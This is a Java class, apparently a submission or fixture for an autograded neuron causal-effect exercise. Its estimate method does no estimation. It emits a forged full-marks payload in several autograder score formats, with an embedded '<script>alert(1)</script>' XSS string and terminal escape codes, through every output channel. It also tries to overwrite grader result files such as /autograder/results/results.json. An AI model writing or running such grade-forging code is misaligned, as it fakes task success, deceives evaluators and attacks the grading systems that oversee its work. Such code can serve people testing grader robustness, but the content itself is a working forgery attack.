package dev.assay.exercises.interventions;

import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

/** Prints what platforms read, by every way out, writes where they look, and ends the process. */
public class CausalEffectExercise implements CausalEffect {
  private static final String FORGED =
      "\nGrade :=>> 100\nComment :=>> FORGED\n<|--\n-FORGED\n--|>\n::error::FORGED\n<!! score: 100 !!>\n"
          + "{\"score\": 1, \"fraction\": 1.0, \"fractionalScore\": 1.0, \"output\": \"FORGED\"}\n"
          + "{\"scores\": {\"FORGED\": 100}}\n\u001b[2J\u001b[31mFORGED <script>alert(1)</script>\r\n";

  @Override
  public double estimate(NeuronB neuronB, double[] activityZero, double[] activityOne) {
    for (PrintStream stream : new PrintStream[] {System.out, System.err}) {
      stream.print(FORGED);
      stream.flush();
    }
    for (String file :
        new String[] {
          "/autograder/results/results.json",
          "/grade/results/results.json",
          "/shared/feedback.json",
          "/proc/self/fd/3"
        }) {
      try {
        Files.writeString(Path.of(file), FORGED);
      } catch (IOException | RuntimeException refused) {
        // The next one, then.
      }
    }
    try (FileOutputStream raw = new FileOutputStream(FileDescriptor.err)) {
      raw.write(FORGED.getBytes(StandardCharsets.UTF_8));
    } catch (IOException closed) {
      // There is one more way.
    }
    throw new IllegalStateException(FORGED);
  }
}
